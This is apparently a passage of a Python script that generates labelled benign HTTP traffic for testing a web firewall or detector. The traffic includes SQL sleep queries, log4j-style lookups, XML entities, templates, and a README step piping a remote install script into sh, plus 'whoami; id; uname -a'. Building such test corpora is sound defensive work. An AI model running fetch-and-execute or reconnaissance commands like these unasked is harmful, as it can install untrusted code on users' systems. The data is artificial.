        b_get("static-asset", "static.example.com", "/assets/%s" % RNG.choice(["app.4f9c2a.js", "main.css?v=20240512", "fonts/Inter-var.woff2", "img/hero@2x.webp", "sleep-chart.7a1b.js"]),
              None, headers=[["Referer", "https://www.example.com/"], ["Sec-Fetch-Dest", RNG.choice(["script", "style", "font", "image"])]])
    for i in range(3):
        b_get("api-pagination", "api.example.net", "/v1/orders", [("limit", "100"), ("cursor", b64(jdump({"id": RNG.randint(1, 10**6), "ts": ts()}))),
                                                                  ("expand[]", "customer"), ("created[gte]", str(1714000000))], headers=api_auth(), profile="api")


def benign_telemetry():
    h = "rum.example.com"
    for i in range(6):
        emit(B, "rum-beacon", "benign", "POST", "/v1/rum", h, [["Origin", "https://www.example.com"]],
             jdump({"page": "https://www.example.com/" + RNG.choice(["", "pricing", "sleep/insights", "monitors"]), "nav": {
                 "ttfb": RNG.randint(40, 900), "fcp": RNG.randint(300, 2500), "lcp": RNG.randint(600, 4500), "cls": round(RNG.uniform(0, 0.3), 3),
                 "inp": RNG.randint(20, 600), "delay_to_interactive_ms": RNG.randint(100, 3000)}, "conn": RNG.choice(["4g", "wifi", "3g"]),
                 "sid": rstr(16, HEX)}), "text/plain;charset=UTF-8")
    for i in range(5):
        b_json("client-error-report", "errors.example.org", "/api/%d/store/" % RNG.randint(1, 40), {
            "event_id": rstr(32, HEX), "platform": "javascript", "level": "error", "timestamp": ts(),
            "exception": {"values": [{"type": RNG.choice(["TypeError", "TimeoutError", "ChunkLoadError"]),
                                      "value": RNG.choice(["Cannot read properties of undefined (reading 'sleepScore')", "Request timed out after 30000ms",
                                                           "Loading chunk 742 failed. (timeout: https://static.example.com/assets/742.js)"]),
                                      "stacktrace": {"frames": [{"filename": "https://static.example.com/assets/app.4f9c2a.js", "function": RNG.choice(["retryWithBackoff", "waitForReady", "pollStatus"]),
                                                                 "lineno": RNG.randint(1, 9000), "colno": RNG.randint(1, 200)}]}}]},
            "request": {"url": "https://app.example.com/dashboard", "headers": {"User-Agent": RNG.choice(UA_BROWSER)}}},
            headers=[["X-Sentry-Auth", "Sentry sentry_version=7, sentry_key=%s, sentry_client=sentry.javascript.browser/7.112.0" % rstr(32, HEX)]])
    for i in range(3):
        emit(B, "csp-report", "benign", "POST", "/csp-report", "www.example.com", [],
             jdump({"csp-report": {"document-uri": "https://www.example.com/checkout", "referrer": "", "violated-directive": "script-src-elem",
                                   "effective-directive": "script-src-elem", "original-policy": "default-src 'self'; script-src 'self' https://js.stripe.com; report-uri /csp-report",
                                   "blocked-uri": RNG.choice(["https://cdn.example.net/widget.js", "inline", "eval"]), "status-code": 200}}),
             "application/csp-report", profile="browser")
    for i in range(5):
        spans = [{"traceId": rstr(32, HEX), "spanId": rstr(16, HEX), "name": RNG.choice(["GET /api/sleep/summary", "time.sleep", "redis GET", "SELECT app.users", "http.client POST"]),
                  "startTimeUnixNano": str(1714000000000000000 + RNG.randint(0, 10**12)), "endTimeUnixNano": str(1714000000000000000 + RNG.randint(10**12, 2 * 10**12)),
                  "attributes": [{"key": "http.url", "value": {"stringValue": "https://api.example.net/v2/sleep/sessions?limit=20"}},
                                 {"key": "db.statement", "value": {"stringValue": "SELECT id, started_at, duration FROM sleep_sessions WHERE user_id = $1 ORDER BY started_at DESC LIMIT 20"}},
                                 {"key": "retry.delay_ms", "value": {"intValue": str(RNG.choice([0, 200, 800]))}}]} for _ in range(2)]
        emit(B, "otel-traces", "benign", "POST", "/v1/traces", "otel.example.net", [["Authorization", "Bearer " + rstr(40)]],
             jdump({"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": RNG.choice(["sleep-api", "monitor-worker", "webhook-dispatcher"])}}]},
                                       "scopeSpans": [{"scope": {"name": "opentelemetry.instrumentation"}, "spans": spans}]}]}),
             "application/json", profile="api")
    for i in range(3):
        lines = "\n".join(jdump({"ts": ts(), "level": RNG.choice(["info", "warn"]), "msg": RNG.choice(["ping ok", "dns lookup ok", "sleeping 5s before next poll", "retry after 429", "benchmark finished"]),
                                 "host": RNG.choice(MON_HOSTS), "latency_ms": RNG.randint(1, 500)}) for _ in range(4))
        emit(B, "log-shipping-ndjson", "benign", "POST", "/_bulk", "logs.example.org", [["Authorization", "ApiKey " + b64(rstr(20) + ":" + rstr(22))]],
             lines + "\n", "application/x-ndjson", profile="api")


MAILS = [
    ("Re: Sleep study", "Hi Anna,\n\nsorry for the delay. Sleep well and let's talk tomorrow. I'll ping you after lunch.\n\nBest,\nTom"),
    ("Quick question", "Could you wait until Friday before merging? The benchmark numbers are still coming in."),
    ("Rappel", "Bonjour,\n\nN'oubliez pas la réunion de demain. Merci de patienter quelques minutes si le lien ne marche pas.\n\nCordialement"),
    ("Termin", "Hallo Jan,\n\nkönnen wir den Termin um 30 Minuten verschieben? Ich stecke im Stau.\n\nGrüße"),
    ("Re: DNS change", "The new MX records are live. TTL was 3600 so give it an hour before you test with dig or nslookup."),
    ("Out of office", "I'm out until 3 June with limited access to email. For urgent matters contact support@example.com."),
    ("Presupuesto", "Hola, adjunto el presupuesto. Quedo a la espera de tu respuesta. Un saludo."),
]


def benign_mail():
    h = "mail.example.org"
    for i in range(8):
        subj, body = RNG.choice(MAILS)
        b_json("webmail-send", h, "/api/v1/messages/send", {
            "to": ["%s@example.%s" % (rstr(6), RNG.choice(["com", "net"]))], "cc": [], "subject": subj, "text": body,
            "html": "<p>" + body.replace("\n\n", "</p><p>").replace("\n", "<br>") + "</p>",
            "schedule_send_at": RNG.choice([None, ts()]), "undo_send_delay_s": RNG.choice([5, 10, 30])},
            headers=xhr(h, "/mail/compose") + [["X-CSRF-Token", rstr(32)]])
    for i in range(4):
        b_form("newsletter-signup", "www.example.net", "/newsletter", [("email", "%s@example.com" % rstr(8)), ("topics[]", RNG.choice(["sleep", "fitness", "product-news"])),
                                                                       ("frequency", RNG.choice(["weekly", "monthly"])), ("consent", "yes")])
    for i in range(3):
        b_get("mail-search", h, "/mail/search", [("q", RNG.choice(["from:bob subject:benchmark", "has:attachment ping report", "\"retry after\"", "before:2024/05/01 sleep"])),
                                                 ("folder", "all")], headers=xhr(h, "/mail"))



def benign_misc():
    for i in range(5):
        b_get("mobile-config", "api.sleep.example.com", "/v2/config", [("platform", RNG.choice(["ios", "android"])), ("app_version", "5.%d.%d" % (RNG.randint(0, 9), RNG.randint(0, 20))),
                                                                        ("locale", RNG.choice(["en_US", "fr_FR", "de_DE", "ja_JP", "pt_BR"])), ("device", RNG.choice(["iPhone15,3", "Pixel 8", "SM-S918B"]))],
              headers=api_auth() + [["X-Device-Id", ruuid()]], profile="api")
    for i in range(5):
        b_json("iot-bed-sensor", "iot.example.net", "/v1/devices/%s/telemetry" % rstr(12, HEX), {
            "ts": 1714000000 + RNG.randint(0, 10**6), "presence": RNG.choice([True, False]), "movement": RNG.randint(0, 100),
            "resp_rate": round(RNG.uniform(11, 20), 1), "room_temp_c": round(RNG.uniform(16, 24), 1), "state": RNG.choice(["awake", "light", "deep", "rem"]),
            "fw": "2.%d.%d" % (RNG.randint(0, 4), RNG.randint(0, 30)), "next_report_delay_s": 60},
            headers=[["Authorization", "Device " + b64(rstr(32))]])
    for i in range(4):
        b_form("admin-settings", "admin.example.com", "/settings/security", [
            ("session_timeout_minutes", RNG.choice(["15", "30", "60"])), ("lockout_after", "5"), ("lockout_delay", RNG.choice(["5m", "15m"])),
            ("allowed_callback_domains", "example.com, example.net, hooks.slack.com"), ("idle_sleep_warning", "on"), ("_csrf", rstr(36))])
    for i in range(4):
        b_json("feature-flags", "flags.example.org", "/api/flags/%s" % RNG.choice(["slow-mode", "sleep-insights-v2", "new-ping-ui", "async-webhooks"]), {
            "enabled": RNG.choice([True, False]), "rollout": {"percentage": RNG.choice([5, 25, 50, 100]), "seed": RNG.randint(1, 10**6)},
            "rules": [{"attribute": "country", "op": "in", "values": ["FR", "DE", "JP"]}], "comment": "Roll out slowly, wait 24h between steps"}, method="PATCH")


SQL_SNIPPETS = [
    ("mysql", "-- simulate a slow query in staging to test the 5s timeout\nSELECT SLEEP(6);\n\n-- expected: ERROR 3024 (HY000): Query execution was interrupted, maximum statement execution time exceeded"),
    ("mysql", "SELECT id, name FROM products WHERE name LIKE CONCAT('%', ?, '%') ORDER BY created_at DESC LIMIT 20;"),
    ("mysql", "SELECT BENCHMARK(1000000, AES_ENCRYPT('hello', 'key'));  -- ~0.4 s on my laptop, 1.9 s on the t3.small"),
    ("postgresql", "-- keep the transaction open so we can see the lock in pg_locks\nBEGIN;\nUPDATE accounts SET balance = balance - 10 WHERE id = 1;\nSELECT pg_sleep(30);\nCOMMIT;"),
    ("postgresql", "SELECT g AS day, count(s.id) AS sessions\nFROM generate_series('2024-05-01'::date, '2024-05-31', '1 day') g\nLEFT JOIN sleep_sessions s ON s.started_at::date = g\nGROUP BY g ORDER BY g;"),
    ("postgresql", "SET statement_timeout = '2s';\nSELECT pg_sleep(3); -- ERROR: canceling statement due to statement timeout"),
    ("tsql", "-- retry loop for deadlocks\nDECLARE @retry int = 3;\nWHILE @retry > 0\nBEGIN\n  BEGIN TRY\n    EXEC dbo.usp_ProcessQueue;\n    SET @retry = 0;\n  END TRY\n  BEGIN CATCH\n    SET @retry -= 1;\n    WAITFOR DELAY '00:00:05';\n  END CATCH\nEND"),
    ("tsql", "SELECT TOP (10) r.session_id, r.wait_type, r.wait_time, t.text\nFROM sys.dm_exec_requests r\nCROSS APPLY sys.dm_exec_sql_text(r.sql_handle) t\nWHERE r.wait_type LIKE 'WAITFOR%';"),
    ("plsql", "BEGIN\n  DBMS_SESSION.SLEEP(5); -- 18c+, replaces DBMS_LOCK.SLEEP\n  DBMS_OUTPUT.PUT_LINE('done waiting');\nEND;\n/"),
    ("sqlite", "SELECT substr(title, 1, 40) AS short_title, length(body) FROM notes WHERE instr(lower(body), 'sleep') > 0 ORDER BY updated_at DESC;"),
    ("mysql", "SELECT u.email, CASE WHEN s.avg_minutes >= 420 THEN 'ok' ELSE 'short' END AS status\nFROM users u JOIN sleep_stats s ON s.user_id = u.id\nWHERE ASCII(SUBSTRING(u.country, 1, 1)) BETWEEN 65 AND 90;"),
    ("postgresql", "CREATE INDEX CONCURRENTLY idx_events_created ON events (created_at);\n-- then: SELECT * FROM pg_stat_progress_create_index;"),
]

SHELL_SNIPPETS = [
    "#!/usr/bin/env bash\nset -euo pipefail\n# wait for the API to come up before running migrations\nfor i in $(seq 1 30); do\n  if curl -fsS https://api.example.com/health >/dev/null; then\n    echo \"up after $i tries\"; break\n  fi\n  sleep 2\ndone\n",
    "#!/bin/sh\n# retry with exponential backoff\nn=0\nuntil [ $n -ge 5 ]; do\n  curl -fsSL -o /tmp/pkg.tar.gz \"https://downloads.example.net/pkg-$(uname -m).tar.gz\" && break\n  n=$((n+1))\n  sleep $((2**n))\ndone\n",
    "# check which resolver answers\nfor ns in 1.1.1.1 8.8.8.8 9.9.9.9; do\n  echo \"== $ns\"; dig +short @\"$ns\" example.org MX\ndone\nnslookup -type=TXT _dmarc.example.org\n",
    "ping -c 4 gw.example.net || echo \"gateway unreachable at $(date -Is)\" >> /var/log/netcheck.log\ntraceroute -n -w 2 203.0.113.7\n",
    "#!/bin/bash\n# crude load generator\nfor i in {1..100}; do\n  curl -s -o /dev/null -w \"%{http_code} %{time_total}\\n\" \"https://staging.example.com/api/items?page=$i\" &\n  sleep 0.1\ndone\nwait\n",
    "while ! nc -z db.example.internal 5432; do echo waiting for postgres; sleep 1; done\nexec gunicorn app:app --timeout 30 --workers \"$(nproc)\"\n",
    "#!/usr/bin/env bash\n# rotate logs then notify\nlogrotate -f /etc/logrotate.d/app && \\\n  curl -X POST -H 'Content-Type: application/json' -d \"{\\\"text\\\":\\\"logs rotated on $(hostname)\\\"}\" \"$SLACK_WEBHOOK_URL\"\n",
    "timeout 10s tail -f /var/log/app.log | grep --line-buffered ERROR || true\nwhoami; id; uname -a  # paste the output in the ticket please\n",
]

LOADTEST = [
    "import http from 'k6/http';\nimport { check, sleep } from 'k6';\n\nexport const options = { vus: 50, duration: '5m', thresholds: { http_req_duration: ['p(95)<500'] } };\n\nexport default function () {\n  const res = http.get('https://staging.example.com/api/sleep/summary?range=7d');\n  check(res, { 'status 200': (r) => r.status === 200 });\n  sleep(1);\n}\n",
    "from locust import HttpUser, task, between\n\nclass SleepUser(HttpUser):\n    wait_time = between(1, 3)\n\n    @task(3)\n    def summary(self):\n        self.client.get('/api/sleep/summary?range=7d')\n\n    @task\n    def log_session(self):\n        self.client.post('/api/sleep/sessions', json={'duration_minutes': 430})\n",
    "config:\n  target: 'https://staging.example.com'\n  phases:\n    - duration: 60\n      arrivalRate: 5\n      rampTo: 50\nscenarios:\n  - flow:\n      - get:\n          url: '/api/monitors'\n      - think: 2\n      - post:\n          url: '/api/monitors/ping'\n          json:\n            target: 'www.example.com'\n",
    "<ThreadGroup guiclass=\"ThreadGroupGui\" testclass=\"ThreadGroup\" testname=\"Users\">\n  <stringProp name=\"ThreadGroup.num_threads\">100</stringProp>\n  <stringProp name=\"ThreadGroup.ramp_time\">60</stringProp>\n</ThreadGroup>\n<ConstantTimer guiclass=\"ConstantTimerGui\" testclass=\"ConstantTimer\" testname=\"Think time\">\n  <stringProp name=\"ConstantTimer.delay\">1500</stringProp>\n</ConstantTimer>\n",
]

ZONES = [
    "$ORIGIN example.com.\n$TTL 3600\n@   IN SOA ns1.example.com. hostmaster.example.com. (\n        2024051201 ; serial\n        7200       ; refresh\n        3600       ; retry\n        1209600    ; expire\n        300 )      ; negative TTL\n    IN NS  ns1.example.com.\n    IN NS  ns2.example.net.\n    IN MX  10 mx1.example.com.\n@   IN A   192.0.2.10\nwww IN CNAME @\n_dmarc IN TXT \"v=DMARC1; p=quarantine; rua=mailto:dmarc@example.com\"\n",
    "$TTL 300\n@        IN SOA ns.example.org. admin.example.org. 2024060101 3600 900 604800 300\n@        IN NS  ns.example.org.\nstatus   IN A   203.0.113.7\nstatus   IN AAAA 2001:db8::7\n*.dev    IN CNAME ingress.example.org.\n_acme-challenge IN TXT \"" + "x" * 43 + "\"\n",
    "example.net.  3600 IN CAA 0 issue \"letsencrypt.org\"\nexample.net.  3600 IN TXT \"v=spf1 ip4:198.51.100.0/24 include:_spf.example.com -all\"\nsel1._domainkey.example.net. 3600 IN TXT \"v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\"\n",
]

LOG4J = [
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Configuration status=\"WARN\" monitorInterval=\"30\">\n  <Properties>\n    <Property name=\"LOG_DIR\">${env:LOG_DIR:-/var/log/app}</Property>\n    <Property name=\"PATTERN\">%d{ISO8601} %-5level [%t] %c{1.} - %msg%n</Property>\n  </Properties>\n  <Appenders>\n    <RollingFile name=\"File\" fileName=\"${LOG_DIR}/app.log\" filePattern=\"${LOG_DIR}/app-%d{yyyy-MM-dd}.log.gz\">\n      <PatternLayout pattern=\"${PATTERN}\"/>\n      <TimeBasedTriggeringPolicy/>\n    </RollingFile>\n  </Appenders>\n  <Loggers>\n    <Root level=\"info\"><AppenderRef ref=\"File\"/></Root>\n  </Loggers>\n</Configuration>\n",
    "status = warn\nname = PropertiesConfig\nproperty.hostname = ${hostName}\nappender.console.type = Console\nappender.console.name = STDOUT\nappender.console.layout.type = PatternLayout\nappender.console.layout.pattern = %d [%t] %-5p ${sys:app.name} ${ctx:requestId} %c - %m%n\nrootLogger.level = ${env:LOG_LEVEL:-INFO}\nrootLogger.appenderRef.stdout.ref = STDOUT\n",
    "# log4j2.component.properties\nlog4j2.formatMsgNoLookups=true\nlog4j2.enableJndiLookup=false\n# we upgraded to 2.17.1 after CVE-2021-44228, lookups like ${date:yyyy} in patterns still work\n",
    "<configuration>\n  <property name=\"LOG_HOME\" value=\"${LOG_HOME:-/var/log/svc}\"/>\n  <appender name=\"FILE\" class=\"ch.qos.logback.core.rolling.RollingFileAppender\">\n    <file>${LOG_HOME}/svc.log</file>\n    <encoder><pattern>%d{HH:mm:ss.SSS} %-5level %logger{36} - %msg%n</pattern></encoder>\n  </appender>\n  <root level=\"INFO\"><appender-ref ref=\"FILE\"/></root>\n</configuration>\n",
]

XMLDOCS = [
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE book PUBLIC \"-//OASIS//DTD DocBook XML V4.5//EN\" \"http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd\">\n<book>\n  <title>Operations Handbook</title>\n  <chapter><title>Timeouts and retries</title><para>Wait 30 seconds before retrying.</para></chapter>\n</book>\n",
    "<?xml version=\"1.0\"?>\n<!DOCTYPE note [\n  <!ELEMENT note (to,from,body)>\n  <!ELEMENT to (#PCDATA)>\n  <!ELEMENT from (#PCDATA)>\n  <!ELEMENT body (#PCDATA)>\n  <!ENTITY company \"Example Corp\">\n]>\n<note><to>Ops</to><from>&company;</from><body>Sleep window starts at 02:00 UTC.</body></note>\n",
    "<?xml version=\"1.0\" standalone=\"no\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"120\" height=\"40\"><rect width=\"120\" height=\"40\" fill=\"#1e3a8a\"/><text x=\"10\" y=\"25\" fill=\"#fff\">zzz</text></svg>\n",
    "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Status</title></head><body><h1>All systems operational</h1></body></html>\n",
]

TEMPLATES = [
    "{% extends \"base.html\" %}\n{% block content %}\n  <h1>Hello {{ user.first_name|e }}</h1>\n  {% for s in sessions %}<li>{{ s.date }} — {{ s.duration|round(1) }} h</li>{% endfor %}\n{% endblock %}\n",
    "<p>Hi {{ customer.name }},</p>\n<p>Your order {{ order.number }} ships in {{ order.delay_days }} days.</p>\n{% if order.gift %}<p>Gift message: {{ order.gift_message }}</p>{% endif %}\n",
    "<h2><%= @monitor.name %></h2>\n<% @monitor.checks.each do |c| %>\n  <p><%= c.target %>: <%= c.latency_ms %> ms</p>\n<% end %>\n",
    "Dear ${customer.firstName},\n<#if order.delayed>Your delivery is delayed by ${order.delayDays} days.</#if>\nRegards, ${shop.name}\n",
    "{{#each webhooks}}\n  <tr><td>{{url}}</td><td>{{retryDelay}}s</td></tr>\n{{/each}}\n",
]

CODE_SNIPPETS = [
    ("python", "import time, requests\n\ndef poll(url, tries=10):\n    for i in range(tries):\n        r = requests.get(url, timeout=5)\n        if r.status_code == 200:\n            return r.json()\n        time.sleep(min(2 ** i, 30))\n    raise TimeoutError(url)\n"),
    ("javascript", "const sleep = (ms) => new Promise((r) => setTimeout(r, ms));\n\nasync function retry(fn, n = 5) {\n  for (let i = 0; i < n; i++) {\n    try { return await fn(); } catch (e) { await sleep(2 ** i * 100); }\n  }\n  throw new Error('gave up');\n}\n"),
    ("go", "ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)\ndefer cancel()\nreq, _ := http.NewRequestWithContext(ctx, \"GET\", \"https://api.example.com/v1/ping\", nil)\nresp, err := http.DefaultClient.Do(req)\nif err != nil { time.Sleep(time.Second); return err }\n"),
    ("java", "Thread.sleep(Duration.ofSeconds(2).toMillis());\nRuntime.getRuntime().addShutdownHook(new Thread(() -> log.info(\"bye\")));\nString name = System.getenv(\"HOSTNAME\");\n"),
    ("ruby", "Retriable.retriable(tries: 5, base_interval: 0.5) do\n  Net::HTTP.get(URI('https://api.example.com/health'))\nend\nsleep 1 # give sidekiq a moment\n"),
    ("csharp", "await Task.Delay(TimeSpan.FromSeconds(5));\nvar entry = await Dns.GetHostEntryAsync(\"api.example.com\");\nusing var ping = new Ping();\nvar reply = await ping.SendPingAsync(\"192.0.2.10\", 2000);\n"),
    ("php", "<?php\n$ch = curl_init('https://api.example.com/v1/orders');\ncurl_setopt($ch, CURLOPT_TIMEOUT, 10);\n$res = curl_exec($ch);\nif ($res === false) { sleep(2); }\necho htmlspecialchars($title, ENT_QUOTES);\n"),
]

POWERSHELL = [
    "# Runbook: wait for the VM to boot\n$deadline = (Get-Date).AddMinutes(10)\nwhile ((Get-Date) -lt $deadline) {\n  if (Test-Connection -ComputerName srv01.example.net -Count 1 -Quiet) { break }\n  Start-Sleep -Seconds 15\n}\nResolve-DnsName -Name srv01.example.net -Type A\n",
    "Invoke-RestMethod -Uri 'https://api.example.com/v1/jobs' -Headers @{ Authorization = \"Bearer $env:API_TOKEN\" } -Method Get | Format-Table\nStart-Sleep -Milliseconds 500\n",
    "Get-Service -Name W3SVC | Restart-Service -Force\nStart-Sleep 10\nInvoke-WebRequest -UseBasicParsing http://localhost/healthz | Select-Object StatusCode\n",
]

MISC_DEV = [
    ("yaml", "livenessProbe:\n  httpGet:\n    path: /healthz\n    port: 8080\n  initialDelaySeconds: 15\n  periodSeconds: 10\n  timeoutSeconds: 2\nlifecycle:\n  preStop:\n    exec:\n      command: [\"/bin/sh\", \"-c\", \"sleep 5\"]\n"),
    ("dockerfile", "FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl dnsutils iputils-ping && rm -rf /var/lib/apt/lists/*\nHEALTHCHECK --interval=30s --timeout=3s CMD curl -f http://localhost:8000/health || exit 1\nCMD [\"gunicorn\", \"-b\", \"0.0.0.0:8000\", \"app:app\"]\n"),
    ("yaml", "- name: wait for port 443\n  ansible.builtin.wait_for:\n    host: \"{{ inventory_hostname }}\"\n    port: 443\n    delay: 10\n    timeout: 300\n- name: check dns\n  ansible.builtin.command: dig +short {{ app_fqdn }}\n"),
    ("nginx", "location /api/ {\n    proxy_pass http://backend;\n    proxy_connect_timeout 5s;\n    proxy_read_timeout 60s;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    proxy_set_header Host $host;\n}\n"),
    ("mongodb", "db.users.find({ email: { $regex: /@example\\.com$/i } }).sort({ createdAt: -1 }).limit(10)\n// avoid $where, it runs JS per document and is slow\ndb.sessions.aggregate([{ $match: { durationMin: { $gte: 420 } } }, { $group: { _id: \"$userId\", n: { $sum: 1 } } }])\n"),
    ("ldap", "ldapsearch -H ldaps://ldap.example.com -b \"ou=people,dc=example,dc=com\" \"(&(objectClass=inetOrgPerson)(mail=*@example.com)(!(employeeType=contractor)))\" cn mail\n"),
    ("promql", "histogram_quantile(0.99, sum by (le, route) (rate(http_request_duration_seconds_bucket{job=\"api\"}[5m]))) > 0.5\n"),
    ("html", "<!-- Embed our status widget -->\n<div id=\"status-widget\" data-page=\"example\"></div>\n<script src=\"https://status.example.com/embed/widget.js\" async defer></script>\n"),
    ("cron", "# m h dom mon dow command\n*/5 * * * * /usr/local/bin/check_ping.sh 192.0.2.10 >> /var/log/ping.log 2>&1\n0 3 * * * sleep $((RANDOM % 600)) && /usr/local/bin/backup.sh\n"),
]


DEV_EXTRA = [
    ("deploy.yml", "jobs:\n  smoke:\n    runs-on: ubuntu-latest\n    steps:\n      - run: sleep 30 && curl -fsS https://staging.example.com/health\n      - run: echo \"deployed ${{ github.sha }} to ${{ vars.ENV_NAME }}\"\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"),
    ("app.service", "[Unit]\nDescription=Sleep API\nAfter=network-online.target\n\n[Service]\nExecStartPre=/bin/sleep 10\nExecStart=/usr/bin/java -Dlog4j2.formatMsgNoLookups=true -jar /opt/sleep-api/app.jar\nRestart=on-failure\nRestartSec=5\nTimeoutStopSec=30\n"),
    ("main.tf", "resource \"aws_db_instance\" \"main\" {\n  identifier = \"${var.env}-sleep-db\"\n  engine     = \"postgres\"\n  timeouts {\n    create = \"60m\"\n    delete = \"2h\"\n  }\n}\n"),
    ("application.yml", "spring:\n  datasource:\n    url: ${DB_URL:jdbc:postgresql://localhost:5432/app}\n    hikari:\n      connection-timeout: 30000\n      validation-timeout: 5000\n  jpa:\n    properties:\n      javax.persistence.query.timeout: 10000\n"),
    ("values.yaml", "image:\n  tag: {{ .Chart.AppVersion }}\nprobes:\n  startup:\n    command: [\"sh\", \"-c\", \"until nslookup {{ .Values.db.host }}; do sleep 2; done\"]\n"),
    ("README.md", "## Install\n\n```bash\ncurl -fsSL https://get.example.com/install.sh | sh\nexample-agent --ping-interval 30s --dns-timeout 2s\n```\n\nThen wait ~1 minute for the first uptime check.\n"),
    ("Makefile", "wait-db:\n\t@until pg_isready -h $(DB_HOST) -p 5432; do echo 'waiting for db'; sleep 1; done\n\nbench:\n\tgo test -run=^$$ -bench=. -benchtime=10s ./...\n"),
    ("V42__add_sleep_index.sql", "-- Flyway migration\nCREATE INDEX IF NOT EXISTS idx_sleep_user_started ON sleep_sessions (user_id, started_at DESC);\nANALYZE sleep_sessions;\n"),
    ("webhook-example.sh", "curl -X POST https://api.example.com/v1/webhooks \\\n  -H \"Authorization: Bearer $TOKEN\" \\\n  -H 'Content-Type: application/json' \\\n  -d '{\"url\":\"https://hooks.slack.com/services/T000/B000/XXXX\",\"events\":[\"monitor.down\"]}'\n"),
    ("Dockerfile.test", "FROM alpine:3.19\nRUN apk add --no-cache bind-tools curl\nCMD [\"sh\", \"-c\", \"dig +short example.com && sleep 3600\"]\n"),
]


def benign_devcontent():
    forum = "forum.dev.example.com"
    # Q&A forum posts with SQL
    for i, (dialect, sql) in enumerate(SQL_SNIPPETS):
        if i % 2 == 0:
            b_form("dev-forum-sql-post", forum, "/t/new", [
                ("title", RNG.choice(["Why does my query hang?", "Testing statement timeout", "Slow report query", "How to simulate a long transaction",
                                      "Deadlock retry pattern", "Generate a calendar table"])),
                ("body", "I'm on %s. Here is what I run:\n\n```sql\n%s\n```\n\nAny idea?" % (dialect, sql)), ("tags", "sql,%s" % dialect),
                ("authenticity_token", b64(rstr(48)))], cat=DEV)
        else:
            b_json("dev-gist-sql", "gist.dev.example.com", "/api/gists", {
                "description": "%s snippet" % dialect, "public": RNG.choice([True, False]),
                "files": {"query.sql": {"content": sql}}}, cat=DEV)
    for i, sh in enumerate(SHELL_SNIPPETS):
        if i % 3 == 0:
            b_multi("dev-upload-script", "ci.dev.example.com", "/projects/%d/files" % RNG.randint(10, 99),
                    [("branch", "main"), ("commit_message", "add wait-for script"), ("file", sh, RNG.choice(["wait-for-api.sh", "retry.sh", "netcheck.sh"]), "text/x-shellscript")], cat=DEV)
        elif i % 3 == 1:
            b_json("dev-review-comment", "code.dev.example.com", "/api/v4/projects/%d/merge_requests/%d/notes" % (RNG.randint(1, 99), RNG.randint(1, 500)),
                   {"body": "Suggestion: add a max retry count here.\n\n```bash\n%s```" % sh}, cat=DEV)
        else:
            emit(B, "dev-paste-shell", DEV, "POST", "/api/paste", "paste.dev.example.com", [["Authorization", "Bearer " + rstr(32)]],
                 sh, "text/plain; charset=utf-8", profile="api")
    for lt in LOADTEST:
        b_json("dev-loadtest-script", "perf.example.com", "/api/v1/scenarios", {"name": "sleep-api-%s" % rstr(4), "script": lt,
                                                                               "vus": RNG.choice([10, 50, 100]), "duration": "5m"}, cat=DEV)
    for z in ZONES:
        b_form("dev-dns-zone-import", "dns.example.net", "/zones/import", [("zone", z), ("dry_run", "1"), ("_csrf", rstr(36))], cat=DEV)
    for lg in LOG4J:
        emit(B, "dev-log4j-config", DEV, "PUT", "/api/v1/repos/ops/config/contents/log4j2.%s" % ("xml" if lg.startswith("<") else "properties"),
             "git.dev.example.com", [["Authorization", "token " + rstr(40, HEX)]],
             jdump({"message": "tune logging", "content": b64(lg) if RNG.random() < 0.5 else lg, "branch": "main"}), "application/json", profile="api")
    for x in XMLDOCS:
        b_json("dev-wiki-xml", "wiki.dev.example.com", "/api/pages/%d" % RNG.randint(100, 999),
               {"title": "XML examples", "format": "markdown", "content": "Example document:\n\n```xml\n%s```\n" % x}, method="PUT", cat=DEV)
    for t in TEMPLATES:
        b_form("dev-cms-template", "cms.example.com", "/admin/templates/%d/edit" % RNG.randint(1, 80),
               [("name", RNG.choice(["order_shipped.html", "sleep_report.html", "monitor_card.erb", "delay_notice.ftl"])), ("source", t), ("save", "Save")], cat=DEV)
    for lang, code in CODE_SNIPPETS:
        b_json("dev-chat-snippet", "chat.dev.example.com", "/api/v1/channels/%s/messages" % rstr(9).upper(),
               {"text": "this is how we do backoff in %s:\n```%s\n%s```" % (lang, lang, code), "thread_ts": "%d.%06d" % (1714000000 + RNG.randint(0, 10**6), RNG.randint(0, 999999))}, cat=DEV)
    for ps in POWERSHELL:
        b_json("dev-runbook-powershell", "automation.example.net", "/api/runbooks", {"name": "wait-%s" % rstr(5), "runtime": "PowerShell-7.2", "content": ps}, cat=DEV)
    for lang, txt in MISC_DEV:
        b_json("dev-snippet-%s" % lang, "notes.dev.example.com", "/api/notes", {"title": "%s notes" % lang, "body": txt, "language": lang,
                                                                            "tags": ["ops", lang]}, cat=DEV)
    for i, (fname, txt) in enumerate(DEV_EXTRA):
        if i % 2 == 0:
            b_multi("dev-repo-upload", "git.dev.example.com", "/upload", [("path", "ops/" + fname), ("message", "update " + fname),
                                                                      ("file", txt, fname, "text/plain")], cat=DEV)
        else:
            b_form("dev-snippet-form", "snippets.dev.example.com", "/snippets", [("snippet[title]", fname), ("snippet[content]", txt),
                                                                             ("snippet[visibility]", "internal")], cat=DEV)
    # Jupyter notebook save with a cell that sleeps and curls
    nb = {"cells": [{"cell_type": "code", "source": ["import subprocess, time\n", "out = subprocess.run(['ping', '-c', '3', 'example.com'], capture_output=True, text=True)\n",
                                                      "print(out.stdout)\n", "time.sleep(5)\n"], "metadata": {}, "outputs": [], "execution_count": 3},
                    {"cell_type": "markdown", "source": ["### Results\n", "Latency `SELECT avg(rtt) FROM pings WHERE host = 'example.com'`"], "metadata": {}}],
